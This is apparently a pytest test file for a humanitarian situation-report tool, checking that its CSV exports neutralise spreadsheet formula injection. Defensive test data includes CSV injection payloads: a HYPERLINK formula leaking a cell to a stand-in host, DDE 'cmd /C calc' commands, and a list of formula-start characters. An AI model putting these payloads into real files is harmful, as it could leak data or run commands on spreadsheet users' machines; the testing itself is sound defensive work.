"""CSV exports are safe to open in a spreadsheet (docs/exports.md, "Safe to open in a
spreadsheet"): a text cell that Excel, LibreOffice or Google Sheets would evaluate as a formula
(OWASP's CSV Injection guidance) is written with a leading `'`, whether its text comes from the
curated store or from an imported ACLED row; a number stays a number; libhxl still reads the
HXL tables; `--raw-cells` writes the cells as the store has them, for programs."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import hxl
import pytest
from hxl.input import InputOptions

from sitrep.exchange.exporter import csv_bytes
from support import acled_file, write

# What a spreadsheet evaluates when a cell starts with it (OWASP, CSV Injection; ASVS 5.0 1.2.10
# adds NUL; Excel reads the full-width signs as the ASCII ones), after any spaces.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")

# Formulas a hostile source, analyst or imported dataset could plant (OWASP's examples and
# their variants): a link that sends a cell to a server, a DDE command, arithmetic, a function
# call, the full-width signs Excel reads as ASCII ones.
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Details")'
DDE = "=cmd|' /C calc'!A0"
ARITHMETIC = "+1+1"
FUNCTION = "@SUM(1+1)*cmd|' /C calc'!A0"
NEGATIVE_SUM = "-2+3+cmd|' /C calc'!A0"
FULL_WIDTH = "＝1+1"

HOSTILE_STORE = f"""\
sources:
  - {{id: formula-source, name: {HYPERLINK!r}, kind: media, reliability: B}}
places:
  - {{id: formula-place, name: {ARITHMETIC!r}, kind: village, parent: fallujah, lat: 33.3, lon: -0.25}}
actors:
  - {{id: formula-actor, name: {FUNCTION!r}, kind: militia}}
incidents:
  - id: formula-incident
    type: human_shields
    date: 2016-06-20
    place: formula-place
    perpetrator: formula-actor
    status: alleged
    summary: {DDE!r}
    cited: [{{source: formula-source}}]
figures:
  - id: formula-figure
    metric: civilians_trapped
    place: formula-place
    as_of: 2016-06-20
    value: 100
    unit: people
    note: {NEGATIVE_SUM!r}
    cited: [{{source: formula-source}}]
routes:
  - id: formula-route
    name: {FULL_WIDTH!r}
    origin: fallujah
    destination: formula-place
    updates:
      - {{as_of: 2016-06-20, status: open, controlled_by: [formula-actor], summary: {HYPERLINK!r},
         cited: [{{source: formula-source}}]}}
movements:
  - id: formula-movement
    period: 2016-06
    origin: fallujah
    destination: formula-place
    count: {{value: 50}}
    unit: people
    summary: {FUNCTION!r}
    cited: [{{source: formula-source}}]
"""

# An ACLED row whose text columns carry formulas, as a downloaded dataset might.
ACLED_ROW = {
    "event_id_cnty": "IRQ9999", "event_date": "2016-06-20", "year": "2016", "time_precision": "1",
    "disorder_type": "Political violence", "event_type": "Violence against civilians", "sub_event_type": "Attack",
    "actor1": DDE, "inter1": "Rebel group", "actor2": "Civilians (Iraq)", "inter2": "Civilians",
    "interaction": "Rebel group-Civilians", "civilian_targeting": "Civilian targeting", "iso": "368",
    "region": "Middle East", "country": "Iraq", "admin1": "Al-Anbar", "admin2": "Falluja", "location": "Falluja",
    "latitude": "33.3500", "longitude": "43.7800", "geo_precision": "1", "source": ARITHMETIC,
    "source_scale": "National", "notes": HYPERLINK, "fatalities": "2", "timestamp": "1618524706",
}

PLANTED = (HYPERLINK, DDE, ARITHMETIC, FUNCTION, NEGATIVE_SUM, FULL_WIDTH)


@pytest.fixture
def hostile(workspace: Path, monkeypatch, sitrep_cli, tmp_path) -> Path:
    """The example workspace with formulas in its store's text and in an imported ACLED row."""
    monkeypatch.chdir(workspace)
    write(workspace / "facts/zz-formulas.yaml", HOSTILE_STORE)
    imported = sitrep_cli("import", "acled", str(acled_file(tmp_path / "acled.csv", [ACLED_ROW])))
    assert imported.exit_code == 0, imported.output
    return workspace


def every_csv(sitrep_cli, folder: Path, *extra: str) -> dict[str, str]:
    """Every CSV export of the whole series (the four HXL tables and ACLED's), by file name."""
    result = sitrep_cli("export", "hxl", "--all", "-o", str(folder), *extra)
    assert result.exit_code == 0, result.output
    tables = {path.name: path.read_text(encoding="utf-8") for path in sorted(folder.iterdir())}
    result = sitrep_cli("export", "acled", "--all", *extra)
    assert result.exit_code == 0, result.output
    return tables | {"acled": result.stdout}


def data_cells(text: str, header_rows: int) -> list[tuple[str, str]]:
    """(column, cell) of every data row, as the csv module (or a spreadsheet) splits them."""
    rows = list(csv.reader(io.StringIO(text)))
    return [(column, cell) for row in rows[header_rows:] for column, cell in zip(rows[0], row)]


def would_run(cell: str) -> bool:
    """A spreadsheet would evaluate the cell: it starts with a formula character (after spaces)
    and is not a plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.lstrip(" ").startswith(FORMULA_STARTS)


def test_no_exported_cell_runs_as_a_formula_in_a_spreadsheet(hostile, sitrep_cli, tmp_path):
    tables = every_csv(sitrep_cli, tmp_path / "hxl")
    cells = [(name, column, cell) for name, text in tables.items()
             for column, cell in data_cells(text, 1 if name == "acled" else 2)]
    assert [c for c in cells if would_run(c[2])] == []
    neutralised = {cell for _, _, cell in cells if cell.startswith("'")}
    # Every formula planted, in the store or the imported row, is there, as text: the same
    # characters after the leading quote that a spreadsheet hides.
    assert {f"'{formula}" for formula in PLANTED} <= neutralised
    imported = next(row for row in csv.DictReader(io.StringIO(tables["acled"])) if row["event_id_cnty"] == "IRQ9999")
    assert (imported["notes"], imported["actor1"], imported["source"]) == (f"'{HYPERLINK}", f"'{DDE}", f"'{ARITHMETIC}")
    # A negative number stays a number: the place's longitude.
    assert ("incidents.csv", "longitude", "-0.25") in cells and ("figures.csv", "longitude", "-0.25") in cells
    assert ("routes.csv", "destination_longitude", "-0.25") in cells


def test_libhxl_still_reads_the_neutralised_tables(hostile, sitrep_cli, tmp_path):
    every_csv(sitrep_cli, tmp_path / "hxl")
    data = hxl.data(str(tmp_path / "hxl/incidents.csv"), InputOptions(allow_local=True))
    tags = [column.display_tag for column in data.columns]
    assert "#event+id" in tags and "#description" in tags
    rows = [dict(zip(tags, row.values)) for row in data]
    planted = next(r for r in rows if r["#event+id"] == "formula-incident")
    assert planted["#description"] == f"'{DDE}" and planted["#loc+name"] == f"'{ARITHMETIC}"
    assert planted["#geo+lon"] == "-0.25"


def test_raw_cells_writes_the_store_s_text_as_it_is(hostile, sitrep_cli, tmp_path):
    tables = every_csv(sitrep_cli, tmp_path / "hxl", "--raw-cells")
    cells = {cell for name, text in tables.items() for _, cell in data_cells(text, 1 if name == "acled" else 2)}
    assert set(PLANTED) <= cells
    assert not any(cell.startswith("'") for cell in cells)


def test_raw_cells_is_for_csv_only(hostile, sitrep_cli):
    result = sitrep_cli("export", "json", "--raw-cells")
    assert result.exit_code == 2
    assert "--raw-cells is about CSV cells; json has none (expected --raw-cells with hxl or acled only)" in result.output


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "＝1", "＋1",
                                  "－1", "＠A1", "  =1+1", "-", "-e"])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell):
    from sitrep.exchange.exporter import spreadsheet_safe

    assert spreadsheet_safe(cell) == "'" + cell
    [_, [written]] = list(csv.reader(io.StringIO(csv_bytes(["c"], None, [{"c": cell}]).decode("utf-8"))))
    assert written == "'" + cell


@pytest.mark.parametrize("cell", ["-3", "-43.7800", "2.5", "1e-05", "-1.5e+20", "30000", "", "Fallujah", "#loc+name",
                                  "a=b", "'=already quoted"])
def test_numbers_and_plain_text_stay_as_they_are(cell):
    from sitrep.exchange.exporter import spreadsheet_safe

    assert spreadsheet_safe(cell) == cell
    assert csv_bytes(["c"], None, [{"c": cell}], raw_cells=True) == csv_bytes(["c"], None, [{"c": cell}])


def test_a_line_break_inside_a_cell_stays_inside_its_row():
    """A bare carriage return was written unquoted, and a spreadsheet ends the row there: the
    rest of the cell became the first cell of a row of its own, formula included."""
    rows = [{"id": "a", "note": "first\r=cmd|' /C calc'!A0"}, {"id": "b", "note": "second\n=1+1"},
            {"id": "c", "note": "third\r\n@SUM(1)"}]
    text = csv_bytes(["id", "note"], None, rows).decode("utf-8")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["id", "note"], *([r["id"], r["note"]] for r in rows)]
    assert text.endswith("@SUM(1)\"\n") and "\r\n" not in text.replace('third\r\n@', "")  # lines end in \n
